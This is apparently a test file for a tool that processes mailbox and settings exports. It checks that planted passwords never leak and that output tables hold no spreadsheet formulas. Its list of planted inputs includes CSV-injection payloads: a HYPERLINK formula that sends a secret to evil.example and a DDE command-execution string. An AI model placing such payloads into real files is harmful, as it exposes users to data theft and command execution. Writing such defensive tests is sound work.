import Papa from 'papaparse';
import { EVERYBODY } from '../../../src/core/company/company-query';
import { MACHINE_FILE } from '../../../src/core/company/machine-file';
import { sampleCompanyFiles } from '../../../src/samples/sample-company';
import { createDesk } from '../../../src/sources/company/desk';
import type { FromDesk } from '../../../src/sources/company/desk-protocol';
import { TABLE_KINDS, kindOfTable, type TableKind } from '../../../src/sources/company/table-kinds';
import { planted } from '../profile/planted-passwords';
import { filesWith } from '../profile/secret-fields';

const NOW = '2026-11-28T10:00:00.000Z';
const SECRET = 'hunter2Planted0815';
/** A password as it stands in a text, and what a spreadsheet would run. */
const PLANTED = [
  `password: ${SECRET}`,
  `pwd=${SECRET}`,
  `ada:${SECRET}@h.example.com`,
  `=HYPERLINK("https://evil.example/?${SECRET}";"x")`,
  `=cmd|'/C calc'!A0`,
  '+1+1',
  '-1+1',
  '@SUM(A1)',
  '\t=1+1',
  ' =1+1',
  '\uFF1D1+1',
] as const;
/** A formula that holds a secret is a text of its own in a plan or a ring: nothing names it as a password. */
const HIDDEN = PLANTED.filter((text) => text.includes(SECRET) && !text.startsWith('='));

/** Everything that leaves the desk: all that it says, and both tables that can be saved. */
async function out(files: readonly File[]) {
  const said: FromDesk[] = [];
  const tables: string[] = [];
  const ask = createDesk((message) => said.push(message));
  await ask({ type: 'take', files, now: NOW });
  for (const groupBy of ['domain', 'plan', 'ring'] as const)
    await ask({ type: 'view', ask: 1, query: EVERYBODY, from: 0, count: 1_000, groupBy });
  await ask({ type: 'table', ask: 2, query: EVERYBODY });
  await ask({ type: 'deletion', ask: 3, rule: { olderThanDays: 1, scope: 'all' }, most: 1_000 });
  for (const message of said) {
    if (message.type === 'table') tables.push(await message.table.text());
    if (message.type === 'deletion') tables.push(await message.outcome.table.text());
  }
  const reports = said.flatMap((message) => (message.type === 'files' ? message.reports : []));
  return { text: JSON.stringify(said) + tables.join(), tables, reports };
}

function expectNoFormula(tables: readonly string[]): void {
  expect(tables).toHaveLength(2);
  for (const table of tables)
    for (const cell of Papa.parse<string[]>(table.slice(1)).data.flat())
      expect(cell.trim()).not.toMatch(/^[=+\-@\uFF0B\uFF0D\uFF1D\uFF20]/);
}

/** All columns of each kind of table, those that are not read among them, with what usually stands there. */
const TABLES: Record<TableKind, Record<string, string>> = {
  mailboxList: {
    Address: 'ada@example.com',
    MailboxGuid: '0000000a-0000-4000-8000-000000000001',
    Plan: 'Business',
    UsedBytes: '100',
    ItemCount: '1',
    IssueWarningQuotaBytes: '900',
    ProhibitSendQuotaBytes: '950',
    ProhibitSendReceiveQuotaBytes: '1000',
    PopEnabled: 'True',
    ImapEnabled: 'False',
    TakenOn: '2026-11-01',
    Notes: '',
  },
  mailboxUsage: {
    'Report Refresh Date': '2026-11-01',
    'User Principal Name': 'ada@example.com',
    'Display Name': 'Ada',
    'Is Deleted': 'False',
    'Deleted Date': '',
    'Created Date': '2020-01-01',
    'Last Activity Date': '2026-10-01',
    'Item Count': '1',
    'Storage Used (Byte)': '100',
    'Issue Warning Quota (Byte)': '900',
    'Prohibit Send Quota (Byte)': '950',
    'Prohibit Send/Receive Quota (Byte)': '1000',
    'Deleted Item Count': '0',
    'Deleted Item Size (Byte)': '0',
    'Deleted Item Quota (Byte)': '10',
    'Has Archive': 'False',
    'Recipient Type': 'User',
    'Report Period': '7',
  },
  appUsage: {
    'Report Refresh Date': '2026-11-01',
    'User Principal Name': 'ada@example.com',
    'Display Name': 'Ada',
    'Is Deleted': 'False',
    'Deleted Date': '',
    'Last Activity Date': '2026-10-01',
    'Mail For Mac': 'No',
    'Outlook For Windows': 'Yes',
    'POP3 App': 'Yes',
    'IMAP4 App': 'No',
    'SMTP App': 'No',
    'Report Period': '7',
  },
  mailboxStatistics: {
    DisplayName: 'Ada',
    PrimarySmtpAddress: 'ada@example.com',
    MailboxGuid: '0000000a-0000-4000-8000-000000000001',
    TotalItemSize: '1 KB (1,024 bytes)',
    ItemCount: '1',
    ProhibitSendReceiveQuota: 'Unlimited',
  },
  casMailbox: {
    Name: 'Ada',
    PrimarySmtpAddress: 'ada@example.com',
    ExchangeGuid: '0000000a-0000-4000-8000-000000000001',
    PopEnabled: 'True',
    ImapEnabled: 'True',
    ActiveSyncEnabled: 'True',
  },
  rings: { Address: 'ada@example.com', Ring: 'pilot', Notes: '' },
};

const quoted = (cells: readonly string[], mark: string) =>
  `${cells.map((cell) => `"${cell.replaceAll('"', '""')}"`).join(mark)}\r\n`;

test.each(TABLE_KINDS)('nothing planted in any field of a table comes out: %s', async (kind) => {
  const usual = TABLES[kind];
  const names = Object.keys(usual);
  expect(kindOfTable(names)).toBe(kind);
  const own = new File(
    [quoted(['Address', 'Ring'], ',') + quoted(['ada@example.com', 'x'], ',')],
    'rings.csv',
  );
  for (const mark of [',', ';']) {
    const rows = names.flatMap((name) =>
      PLANTED.map((text) => names.map((column) => (column === name ? text : (usual[column] ?? '')))),
    );
    const file = (lines: readonly string[][]) =>
      new File([quoted(names, mark), ...lines.map((line) => quoted(line, mark))], 'table.csv');
    const { text, tables, reports } = await out([own, file(rows)]);
    expect(reports.at(-1)?.counts?.rows).toBe(rows.length);
    expectNoFormula(tables);
    for (const one of HIDDEN) expect([one, text.includes(one)]).toEqual([one, false]);
    // Beside plans and rings, which are texts of the company's own, no field is passed on as it stands.
    const hidden = rows.filter((row) => row.every((cell) => !cell.startsWith('=')));
    const read = await out([own, file(hidden)]);
    expect(read.text.includes(SECRET)).toBe(false);
    // In a header, too.
    expect(
      (await out([file([]), new File([quoted([...names, ...PLANTED], mark)], 'h.csv')])).text,
    ).not.toContain(SECRET);
  }
});

test('nothing planted in any field of a machine’s file comes out', async () => {
  const [sample = ''] = await Promise.all(
    sampleCompanyFiles(NOW)
      .filter(({ name }) => name.endsWith('.json'))
      .map((file) => file.text()),
  );
  type Json = string | number | boolean | null | Json[] | { [name: string]: Json };
  /** Each text or number of the file, in turn, in place of which something else is put. */
  function* variants(value: Json, put: string): Generator<Json> {
    if (Array.isArray(value)) {
      for (const [at, part] of value.entries())
        for (const other of variants(part, put)) yield value.with(at, other);
    } else if (typeof value === 'object' && value !== null) {
      for (const [name, part] of Object.entries(value))
        for (const other of variants(part, put)) yield { ...value, [name]: other };
      yield { ...value, 'POP3 Password': put, 'IMAP Password': put, Password: put, other: put };
    } else yield put;
  }
  const whole = JSON.parse(sample) as Json;
  let read = 0;
  for (const put of PLANTED.slice(0, 5)) {
    // Each is of a machine of its own, so that none takes the place of another.
    const files = [...variants(whole, put)].map(
      (json, at) => new File([JSON.stringify(json).replace('"PC-1000"', `"PC-${at}"`)], `${put}.json`),
    );
    const { text, tables, reports } = await out(files);
    read += reports.filter(({ kind, problem }) => kind === 'machine' && problem === null).length;
    expectNoFormula(tables);
    if (!put.startsWith('=')) expect([put, text.includes(SECRET)]).toEqual([put, false]);
  }
  expect(sample).toContain(MACHINE_FILE);
  expect(read).toBeGreaterThan(50);
});

test('nothing planted in any field or beside it in an export of settings comes out', async () => {
  for (const put of PLANTED.slice(0, 5)) {
    for (const field of ['server', 'name', 'address'] as const) {
      const plain = { server: 'h.example.com', name: 'Ada', address: 'ada@example.com' };
      const files = Object.entries(filesWith({ ...plain, [field]: put })).map(
        ([name, text]) => new File([text], name),
      );
      const { text, tables } = await out(files);
      expectNoFormula(tables);
      expect([put, field, text.includes(SECRET)]).toEqual([put, field, false]);
    }
  }
  const files = Object.entries(planted(SECRET)).map(([name, text]) => new File([text], name));
  const { text, tables, reports } = await out(files);
  expect(reports.filter(({ kind }) => kind === 'profile').length).toBeGreaterThan(5);
  expectNoFormula(tables);
  expect(text.includes(SECRET)).toBe(false);
});
